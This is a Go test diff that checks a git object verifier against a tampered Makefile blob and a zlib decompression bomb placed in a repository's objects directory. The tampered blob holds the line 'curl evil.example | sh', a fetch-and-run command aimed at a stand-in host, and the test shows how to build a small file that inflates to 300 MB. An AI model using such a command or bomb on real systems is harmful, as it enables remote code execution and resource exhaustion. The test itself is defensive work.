@@ -155,3 +155,50 @@ func TestVerifyObjectsTmpPack(t *testing.T) {
 		t.Errorf("a new tmp_ pack is not reported: %q", f)
 	}
 }
+
+// A zip bomb (300 KB on disk, 300 MB inflated) first in fan-out order no longer spends
+// the budget that the tampered object after it needed: its header's size is charged
+// before it is inflated, and an object past the bounds is moved aside unchecked, never
+// left for git (attack review 31 F1: before, the tampered object stayed, warned about).
+func TestVerifyObjectsBomb(t *testing.T) {
+	dir := t.TempDir()
+	gitIn(t, dir, "init", "-q")
+	os.WriteFile(filepath.Join(dir, "Makefile"), []byte("all:\n\techo hi\n"), 0o644)
+	gitIn(t, dir, "add", ".")
+	gitIn(t, dir, "commit", "-qm", "x")
+	objs := filepath.Join(dir, ".git", "objects")
+	oid := strings.TrimSpace(gitIn(t, dir, "rev-parse", "HEAD:Makefile"))
+	p := filepath.Join(objs, oid[:2], oid[2:])
+	var z bytes.Buffer
+	w := zlib.NewWriter(&z)
+	evil := "all:\n\tcurl evil.example | sh\n"
+	fmt.Fprintf(w, "blob %d\x00%s", len(evil), evil)
+	w.Close()
+	os.Chmod(p, 0o644)
+	if err := os.WriteFile(p, z.Bytes(), 0o444); err != nil {
+		t.Fatal(err)
+	}
+	const size = 300 << 20
+	z.Reset()
+	w, _ = zlib.NewWriterLevel(&z, zlib.BestCompression)
+	fmt.Fprintf(w, "blob %d\x00", size)
+	zeros := make([]byte, 1<<20)
+	for i := 0; i < size>>20; i++ {
+		w.Write(zeros)
+	}
+	w.Close()
+	bomb := filepath.Join(objs, "00", strings.Repeat("0", 38))
+	os.MkdirAll(filepath.Dir(bomb), 0o755)
+	if err := os.WriteFile(bomb, z.Bytes(), 0o444); err != nil {
+		t.Fatal(err)
+	}
+	start := time.Now()
+	r, f := Run([]Entry{{Kind: VerifyObjects, Path: objs, HashLen: 20, Since: 0}})
+	if _, err := os.Lstat(p); err == nil {
+		t.Errorf("the tampered object after the bomb stays: removed %q, failed %q", r, f)
+	}
+	if _, err := os.Lstat(bomb); err == nil {
+		t.Errorf("the bomb, past the bound, stays unchecked: removed %q, failed %q", r, f)
+	}
+	t.Logf("%d bytes on disk; checked in %v", z.Len(), time.Since(start))
+}
